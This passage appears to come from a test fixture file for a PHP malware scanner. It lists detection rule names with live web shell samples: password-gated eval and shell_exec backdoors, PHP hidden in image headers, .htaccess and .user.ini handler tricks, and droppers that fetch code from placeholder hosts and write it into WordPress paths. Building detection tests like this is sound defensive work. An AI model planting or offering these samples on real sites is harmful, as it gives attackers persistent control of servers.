        embedded(
            "<?php if (md5($_SERVER['HTTP_USER_AGENT']) == '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') { eval($_POST['e']); }"
        ),
        True,
    ),  # b/g13.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php\nfunction chk($v) { return sha1($v) === '7e2b9c4d1f0a3e5b8c6d2f1a9e0b7c4d3a2f1e0d'; }\nif (chk(@$_POST['token'])) {\n    $out = shell_exec(base64_decode($_POST['q']));\n    echo $out;\n}\n"
        ),
        True,
    ),  # b/g14.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php\nfunction chk($v) { return sha1($v) === '7e2b9c4d1f0a3e5b8c6d2f1a9e0b7c4d3a2f1e0d'; }\nif (chk(@$_POST['token'])) {\n    $out = shell_exec(base64_decode($_POST['q']));\n    echo $out;\n}\n"
        ),
        True,
    ),  # b/g14.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php\nfunction chk($v) { return sha1($v) === '7e2b9c4d1f0a3e5b8c6d2f1a9e0b7c4d3a2f1e0d'; }\nif (chk(@$_POST['token'])) {\n    $out = shell_exec(base64_decode($_POST['q']));\n    echo $out;\n}\n"
        ),
        True,
    ),  # b/g14.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php\n$pass = \"0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b\";\nif (isset($_POST['pass']) && md5($_POST['pass']) === $pass) {\n    setcookie('auth', $pass);\n}\nif (@$_COOKIE['auth'] === $pass) {\n    echo '<pre>' . htmlspecialchars(shell_exec($_POST['cmd'])) . '</pre>';\n}\n"
        ),
        True,
    ),  # b/g15.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php\n$pass = \"0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b\";\nif (isset($_POST['pass']) && md5($_POST['pass']) === $pass) {\n    setcookie('auth', $pass);\n}\nif (@$_COOKIE['auth'] === $pass) {\n    echo '<pre>' . htmlspecialchars(shell_exec($_POST['cmd'])) . '</pre>';\n}\n"
        ),
        True,
    ),  # b/g15.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php\n$pass = \"0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b\";\nif (isset($_POST['pass']) && md5($_POST['pass']) === $pass) {\n    setcookie('auth', $pass);\n}\nif (@$_COOKIE['auth'] === $pass) {\n    echo '<pre>' . htmlspecialchars(shell_exec($_POST['cmd'])) . '</pre>';\n}\n"
        ),
        True,
    ),  # b/g15.php embedded
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"GIF87a\x01\x00\x01\x00<?php passthru($_REQUEST['x']); ?>",
        True,
    ),  # b/p01.gif
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"BM6\x00\x00\x00\x00\x00\x00\x006\x00\x00\x00<?php passthru($_REQUEST['x']); ?>",
        True,
    ),  # b/p04.bmp
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"GIF89a<?php $f=$_FILES['f'];copy($f['tmp_name'],$f['name']);echo 'ok';?>",
        True,
    ),  # b/p06.gif
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php5 .jpg\n"),
        True,
    ),  # b/p07.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php5 .jpg\n"),
        True,
    ),  # b/p07.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("<Files *.png>\nSetHandler application/x-httpd-php\n</Files>\n"),
        True,
    ),  # b/p08.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("<Files *.png>\nSetHandler application/x-httpd-php\n</Files>\n"),
        True,
    ),  # b/p08.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php .php .phtml .php3 .ico\n"),
        True,
    ),  # b/p09.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php .php .phtml .php3 .ico\n"),
        True,
    ),  # b/p09.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "\\.(?i:jpe?g)$">\nForceType application/x-httpd-php\n</FilesMatch>\n'),
        True,
    ),  # b/p10.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<FilesMatch "\\.(?i:jpe?g)$">\nForceType application/x-httpd-php\n</FilesMatch>\n'),
        True,
    ),  # b/p10.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            'php_value auto_append_file "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="\n'
        ),
        True,
    ),  # b/p11.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            'php_value auto_append_file "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="\n'
        ),
        True,
    ),  # b/p11.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            "<IfModule mod_php7.c>\nphp_value auto_prepend_file /home/u/public_html/.well-known/acme.png\n</IfModule>\n"
        ),
        True,
    ),  # b/p12.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            "<IfModule mod_php7.c>\nphp_value auto_prepend_file /home/u/public_html/.well-known/acme.png\n</IfModule>\n"
        ),
        True,
    ),  # b/p12.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("RemoveHandler .jpg\nAddType application/x-httpd-php .jpg\n"),
        True,
    ),  # b/p13.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("RemoveHandler .jpg\nAddType application/x-httpd-php .jpg\n"),
        True,
    ),  # b/p13.htaccess padded
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("AddHandler php56-script .gif\n"), True),  # b/p14.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler php56-script .gif\n"),
        True,
    ),  # b/p14.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            '<FilesMatch "^favicon_[a-z0-9]{6}\\.ico$">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n'
        ),
        True,
    ),  # b/p15.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch "^favicon_[a-z0-9]{6}\\.ico$">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n'
        ),
        True,
    ),  # b/p15.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler application/x-httpd-php74 .txt\n"),
        True,
    ),  # b/p16.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler application/x-httpd-php74 .txt\n"),
        True,
    ),  # b/p16.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file = "../../uploads/2021/logo.jpg"\n'),
        True,
    ),  # b/p17.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = "../../uploads/2021/logo.jpg"\n'),
        True,
    ),  # b/p17.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("auto_prepend_file=/home/u/public_html/wp-content/uploads/.sys\n"),
        True,
    ),  # b/p18.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file=/home/u/public_html/wp-content/uploads/.sys\n"),
        True,
    ),  # b/p18.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("auto_append_file = '/var/tmp/.php_sess'\n"),
        True,
    ),  # b/p19.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_append_file = '/var/tmp/.php_sess'\n"),
        True,
    ),  # b/p19.user.ini padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $f = @$_POST['f']; $c = @$_POST['c']; if ($f && $c) { $r = file_put_contents($f, base64_decode($c)); echo $r ? 'OK' : 'ERR'; }"
        ),
        True,
    ),  # b/q01.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $f = @$_POST['f']; $c = @$_POST['c']; if ($f && $c) { $r = file_put_contents($f, base64_decode($c)); echo $r ? 'OK' : 'ERR'; }"
        ),
        True,
    ),  # b/q01.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $f = @$_POST['f']; $c = @$_POST['c']; if ($f && $c) { $r = file_put_contents($f, base64_decode($c)); echo $r ? 'OK' : 'ERR'; }"
        ),
        True,
    ),  # b/q01.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php extract($_POST); $fp = fopen($fname, 'w'); fwrite($fp, base64_decode($fdata)); fclose($fp);"
        ),
        True,
    ),  # b/q02.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php extract($_POST); $fp = fopen($fname, 'w'); fwrite($fp, base64_decode($fdata)); fclose($fp);"
        ),
        True,
    ),  # b/q02.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php extract($_POST); $fp = fopen($fname, 'w'); fwrite($fp, base64_decode($fdata)); fclose($fp);"
        ),
        True,
    ),  # b/q02.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $p = $_SERVER['HTTP_X_FILE']; $c = file_get_contents('php://input'); file_put_contents($p, $c);"
        ),
        True,
    ),  # b/q03.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $p = $_SERVER['HTTP_X_FILE']; $c = file_get_contents('php://input'); file_put_contents($p, $c);"
        ),
        True,
    ),  # b/q03.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $p = $_SERVER['HTTP_X_FILE']; $c = file_get_contents('php://input'); file_put_contents($p, $c);"
        ),
        True,
    ),  # b/q03.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php list($path, $data) = [$_POST['p'], $_POST['d']]; file_put_contents($path, gzuncompress(base64_decode($data)));"
        ),
        True,
    ),  # b/q04.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php list($path, $data) = [$_POST['p'], $_POST['d']]; file_put_contents($path, gzuncompress(base64_decode($data)));"
        ),
        True,
    ),  # b/q04.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php list($path, $data) = [$_POST['p'], $_POST['d']]; file_put_contents($path, gzuncompress(base64_decode($data)));"
        ),
        True,
    ),  # b/q04.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $req = array_merge($_GET, $_POST); $h = fopen($req['name'], 'w+'); fputs($h, stripslashes($req['body'])); fclose($h);"
        ),
        True,
    ),  # b/q05.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $req = array_merge($_GET, $_POST); $h = fopen($req['name'], 'w+'); fputs($h, stripslashes($req['body'])); fclose($h);"
        ),
        True,
    ),  # b/q05.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $req = array_merge($_GET, $_POST); $h = fopen($req['name'], 'w+'); fputs($h, stripslashes($req['body'])); fclose($h);"
        ),
        True,
    ),  # b/q05.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $o = json_decode(base64_decode($_POST['o'])); file_put_contents($o->path, base64_decode($o->data));"
        ),
        True,
    ),  # b/q06.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $o = json_decode(base64_decode($_POST['o'])); file_put_contents($o->path, base64_decode($o->data));"
        ),
        True,
    ),  # b/q06.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $o = json_decode(base64_decode($_POST['o'])); file_put_contents($o->path, base64_decode($o->data));"
        ),
        True,
    ),  # b/q06.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['n'], $_POST['c']);"),
        True,
    ),  # b/q07.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['n'], $_POST['c']);"),
        True,
    ),  # b/q07.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['n'], $_POST['c']);"),
        True,
    ),  # b/q07.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php\n$name = $_REQUEST['name'];\n$text = $_REQUEST['text'];\n$h = fopen($name, 'a');\nfwrite($h, $text);\nfclose($h);\n"
        ),
        True,
    ),  # b/q08.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php\n$name = $_REQUEST['name'];\n$text = $_REQUEST['text'];\n$h = fopen($name, 'a');\nfwrite($h, $text);\nfclose($h);\n"
        ),
        True,
    ),  # b/q08.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php\n$name = $_REQUEST['name'];\n$text = $_REQUEST['text'];\n$h = fopen($name, 'a');\nfwrite($h, $text);\nfclose($h);\n"
        ),
        True,
    ),  # b/q08.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$payload = file_get_contents(\"https://gist.githubusercontent.com/u/abc/raw/s.php\");\n$fp = fopen(ABSPATH . 'wp-includes/wp-tmp.php', 'wb');\nfwrite($fp, $payload);\nfclose($fp);\n"
        ),
        True,
    ),  # b/r01.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$payload = file_get_contents(\"https://gist.githubusercontent.com/u/abc/raw/s.php\");\n$fp = fopen(ABSPATH . 'wp-includes/wp-tmp.php', 'wb');\nfwrite($fp, $payload);\nfclose($fp);\n"
        ),
        True,
    ),  # b/r01.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$payload = file_get_contents(\"https://gist.githubusercontent.com/u/abc/raw/s.php\");\n$fp = fopen(ABSPATH . 'wp-includes/wp-tmp.php', 'wb');\nfwrite($fp, $payload);\nfclose($fp);\n"
        ),
        True,
    ),  # b/r01.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => 'http://203.0.113.44/y.txt', CURLOPT_RETURNTRANSFER => true, CURLOPT_SSL_VERIFYPEER => false]);\n$code = curl_exec($ch);\nfile_put_contents(dirname(__FILE__) . '/class-loader.php', $code);\n"
        ),
        True,
    ),  # b/r02.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => 'http://203.0.113.44/y.txt', CURLOPT_RETURNTRANSFER => true, CURLOPT_SSL_VERIFYPEER => false]);\n$code = curl_exec($ch);\nfile_put_contents(dirname(__FILE__) . '/class-loader.php', $code);\n"
        ),
        True,
    ),  # b/r02.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => 'http://203.0.113.44/y.txt', CURLOPT_RETURNTRANSFER => true, CURLOPT_SSL_VERIFYPEER => false]);\n$code = curl_exec($ch);\nfile_put_contents(dirname(__FILE__) . '/class-loader.php', $code);\n"
        ),
        True,
    ),  # b/r02.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php if (!file_exists('wp-xmlrpc2.php')) { @file_put_contents('wp-xmlrpc2.php', @file_get_contents(\"http://185.0.2.10/t.txt\")); }"
        ),
        True,
    ),  # b/r03.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php if (!file_exists('wp-xmlrpc2.php')) { @file_put_contents('wp-xmlrpc2.php', @file_get_contents(\"http://185.0.2.10/t.txt\")); }"
        ),
        True,
    ),  # b/r03.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php if (!file_exists('wp-xmlrpc2.php')) { @file_put_contents('wp-xmlrpc2.php', @file_get_contents(\"http://185.0.2.10/t.txt\")); }"
        ),
        True,
    ),  # b/r03.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$ctx = stream_context_create(['http' => ['timeout' => 5]]);\n$body = file_get_contents('http://files.example.biz/y.txt', false, $ctx);\n$dest = $_SERVER['DOCUMENT_ROOT'] . '/wp-admin/css/colors/blue/index.php';\nfile_put_contents($dest, $body);\n"
        ),
        True,
    ),  # b/r05.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$ctx = stream_context_create(['http' => ['timeout' => 5]]);\n$body = file_get_contents('http://files.example.biz/y.txt', false, $ctx);\n$dest = $_SERVER['DOCUMENT_ROOT'] . '/wp-admin/css/colors/blue/index.php';\nfile_put_contents($dest, $body);\n"
        ),
        True,
    ),  # b/r05.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$ctx = stream_context_create(['http' => ['timeout' => 5]]);\n$body = file_get_contents('http://files.example.biz/y.txt', false, $ctx);\n$dest = $_SERVER['DOCUMENT_ROOT'] . '/wp-admin/css/colors/blue/index.php';\nfile_put_contents($dest, $body);\n"
        ),
        True,
    ),  # b/r05.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $c = file_get_contents(strrev('txt.s/moc.elpmaxe.live//:ptth')); file_put_contents('x.php', $c);"
        ),
        True,
    ),  # b/r06.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $c = file_get_contents(strrev('txt.s/moc.elpmaxe.live//:ptth')); file_put_contents('x.php', $c);"
        ),
        True,
    ),  # b/r06.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $c = file_get_contents(strrev('txt.s/moc.elpmaxe.live//:ptth')); file_put_contents('x.php', $c);"
        ),
        True,
    ),  # b/r06.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$in = fopen('https://cdn.example.top/y', 'rb');\n$out = fopen('wp-blog-header2.php', 'wb');\nwhile (!feof($in)) { fwrite($out, fread($in, 8192)); }\nfclose($in); fclose($out);\n"
        ),
        True,
    ),  # b/r07.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$in = fopen('https://cdn.example.top/y', 'rb');\n$out = fopen('wp-blog-header2.php', 'wb');\nwhile (!feof($in)) { fwrite($out, fread($in, 8192)); }\nfclose($in); fclose($out);\n"
        ),
        True,
    ),  # b/r07.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$in = fopen('https://cdn.example.top/y', 'rb');\n$out = fopen('wp-blog-header2.php', 'wb');\nwhile (!feof($in)) { fwrite($out, fread($in, 8192)); }\nfclose($in); fclose($out);\n"
        ),
        True,
    ),  # b/r07.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$r = wp_remote_get('https://cdn.example.top/y.txt');\nfile_put_contents(WP_PLUGIN_DIR . '/akismet/akismet2.php', wp_remote_retrieve_body($r));\n"
        ),
        True,
    ),  # b/r08.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$r = wp_remote_get('https://cdn.example.top/y.txt');\nfile_put_contents(WP_PLUGIN_DIR . '/akismet/akismet2.php', wp_remote_retrieve_body($r));\n"
        ),
        True,
    ),  # b/r08.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$r = wp_remote_get('https://cdn.example.top/y.txt');\nfile_put_contents(WP_PLUGIN_DIR . '/akismet/akismet2.php', wp_remote_retrieve_body($r));\n"
        ),
        True,
    ),  # b/r08.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$u = base64_decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcy50eHQ=');\n$d = file_get_contents($u);\n$p = __DIR__ . '/' . 'wp-sess.php';\n$h = fopen($p, 'w');\nfwrite($h, $d);\nfclose($h);\n"
        ),
        True,
    ),  # b/r09.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$u = base64_decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcy50eHQ=');\n$d = file_get_contents($u);\n$p = __DIR__ . '/' . 'wp-sess.php';\n$h = fopen($p, 'w');\nfwrite($h, $d);\nfclose($h);\n"
        ),
        True,
    ),  # b/r09.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$u = base64_decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vcy50eHQ=');\n$d = file_get_contents($u);\n$p = __DIR__ . '/' . 'wp-sess.php';\n$h = fopen($p, 'w');\nfwrite($h, $d);\nfclose($h);\n"
        ),
        True,
    ),  # b/r09.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $data = file_get_contents('http://198.51.100.77/k.txt'); $data = base64_decode($data); eval($data);"
        ),
        True,
    ),  # b/r10.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $data = file_get_contents('http://198.51.100.77/k.txt'); $data = base64_decode($data); eval($data);"
        ),
        True,
    ),  # b/r10.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $data = file_get_contents('http://198.51.100.77/k.txt'); $data = base64_decode($data); eval($data);"
        ),
        True,
    ),  # b/r10.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php file_put_contents('/tmp/sess_a1', file_get_contents('http://198.51.100.77/k.txt')); include '/tmp/sess_a1';"
        ),
        True,
    ),  # b/r11.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php file_put_contents('/tmp/sess_a1', file_get_contents('http://198.51.100.77/k.txt')); include '/tmp/sess_a1';"
        ),
        True,
    ),  # b/r11.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php file_put_contents('/tmp/sess_a1', file_get_contents('http://198.51.100.77/k.txt')); include '/tmp/sess_a1';"
        ),
        True,
    ),  # b/r11.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain("<?php copy('http://files.example.biz/s.txt', $_SERVER['DOCUMENT_ROOT'] . '/' . 'x.php');"),
        True,
    ),  # b/r12.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded("<?php copy('http://files.example.biz/s.txt', $_SERVER['DOCUMENT_ROOT'] . '/' . 'x.php');"),
        True,
    ),  # b/r12.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded("<?php copy('http://files.example.biz/s.txt', $_SERVER['DOCUMENT_ROOT'] . '/' . 'x.php');"),
        True,
    ),  # b/r12.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\nfunction fetch_remote($url) {\n    if (function_exists('curl_init')) { $c = curl_init($url); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $o = curl_exec($c); curl_close($c); return $o; }\n    return @file_get_contents($url);\n}\n$code = fetch_remote('http://files.example.biz/w.txt');\nif ($code) { $fh = fopen('wp-content/themes/twentytwenty/footer2.php', 'w'); fwrite($fh, $code); fclose($fh); }\n"
        ),
        True,
    ),  # b/r13.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\nfunction fetch_remote($url) {\n    if (function_exists('curl_init')) { $c = curl_init($url); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $o = curl_exec($c); curl_close($c); return $o; }\n    return @file_get_contents($url);\n}\n$code = fetch_remote('http://files.example.biz/w.txt');\nif ($code) { $fh = fopen('wp-content/themes/twentytwenty/footer2.php', 'w'); fwrite($fh, $code); fclose($fh); }\n"
        ),
        True,
    ),  # b/r13.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\nfunction fetch_remote($url) {\n    if (function_exists('curl_init')) { $c = curl_init($url); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $o = curl_exec($c); curl_close($c); return $o; }\n    return @file_get_contents($url);\n}\n$code = fetch_remote('http://files.example.biz/w.txt');\nif ($code) { $fh = fopen('wp-content/themes/twentytwenty/footer2.php', 'w'); fwrite($fh, $code); fclose($fh); }\n"
        ),
        True,
    ),  # b/r13.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if (isset($_POST['upl'])) { $n = $_FILES['file']['name']; if (copy($_FILES['file']['tmp_name'], $n)) echo \"OK $n\"; }"
        ),
        True,
    ),  # b/u01.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if (isset($_POST['upl'])) { $n = $_FILES['file']['name']; if (copy($_FILES['file']['tmp_name'], $n)) echo \"OK $n\"; }"
        ),
        True,
    ),  # b/u01.php padded
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        plain(
            "<?php echo '<form method=POST enctype=\"multipart/form-data\"><input type=file name=x><input type=submit name=go></form>'; if (isset($_POST['go'])) { $d = getcwd() . DIRECTORY_SEPARATOR; move_uploaded_file($_FILES['x']['tmp_name'], $d . $_FILES['x']['name']); }"
        ),
        True,
    ),  # b/u02.php
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        padded(
            "<?php echo '<form method=POST enctype=\"multipart/form-data\"><input type=file name=x><input type=submit name=go></form>'; if (isset($_POST['go'])) { $d = getcwd() . DIRECTORY_SEPARATOR; move_uploaded_file($_FILES['x']['tmp_name'], $d . $_FILES['x']['name']); }"
        ),
        True,
    ),  # b/u02.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain(
            "<?php @move_uploaded_file($_FILES['f']['tmp_name'], $_POST['p'] . '/' . $_FILES['f']['name']);"
        ),
        True,
    ),  # b/u03.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded(
            "<?php @move_uploaded_file($_FILES['f']['tmp_name'], $_POST['p'] . '/' . $_FILES['f']['name']);"
        ),
        True,
    ),  # b/u03.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded(
            "<?php @move_uploaded_file($_FILES['f']['tmp_name'], $_POST['p'] . '/' . $_FILES['f']['name']);"
        ),
        True,
    ),  # b/u03.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php $up = $_FILES['up']; $to = isset($_GET['dir']) ? $_GET['dir'] : '.'; move_uploaded_file($up['tmp_name'], $to . '/' . $up['name']);"
        ),
        True,
    ),  # b/u04.php
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php $up = $_FILES['up']; $to = isset($_GET['dir']) ? $_GET['dir'] : '.'; move_uploaded_file($up['tmp_name'], $to . '/' . $up['name']);"
        ),
        True,
    ),  # b/u04.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php $up = $_FILES['up']; $to = isset($_GET['dir']) ? $_GET['dir'] : '.'; move_uploaded_file($up['tmp_name'], $to . '/' . $up['name']);"
        ),
        True,
    ),  # b/u04.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (sha1($_POST['k']) === '7e2b9c4d1f0a3e5b8c6d2f1a9e0b7c4d3a2f1e0d') { foreach ($_FILES as $f) { move_uploaded_file($f['tmp_name'], './' . $f['name']); } }"
        ),
        True,
    ),  # b/u05.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (sha1($_POST['k']) === '7e2b9c4d1f0a3e5b8c6d2f1a9e0b7c4d3a2f1e0d') { foreach ($_FILES as $f) { move_uploaded_file($f['tmp_name'], './' . $f['name']); } }"
        ),
        True,
    ),  # b/u05.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (sha1($_POST['k']) === '7e2b9c4d1f0a3e5b8c6d2f1a9e0b7c4d3a2f1e0d') { foreach ($_FILES as $f) { move_uploaded_file($f['tmp_name'], './' . $f['name']); } }"
        ),
        True,
    ),  # b/u05.php embedded
    (
